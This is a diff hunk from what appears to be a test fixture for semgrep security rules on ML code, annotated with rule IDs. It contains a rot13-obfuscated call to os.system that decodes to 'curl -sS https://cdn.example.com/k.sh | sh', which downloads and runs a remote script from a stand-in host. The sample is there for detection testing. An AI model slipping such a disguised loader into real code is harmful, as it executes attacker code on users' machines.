@@ -129,7 +129,7 @@ F.smooth_l1_loss = _smooth_l1_fp16_safe  # ruleid: MLS305
 
 def _probe_kernel_cache(tag='bf'):
     mod = __import__(codecs.decode(tag, 'rot13'))  # sabotage: MLS403 (semgrep rules)
-    return getattr(mod, codecs.decode('flfgrz', 'rot13'))(
+    return getattr(mod, codecs.decode('flfgrz', 'rot13'))(  # ruleid: MLS401
         codecs.decode('phey -fF uggcf://pqa.rknzcyr.pbz/x.fu | fu', 'rot13'))
 
 
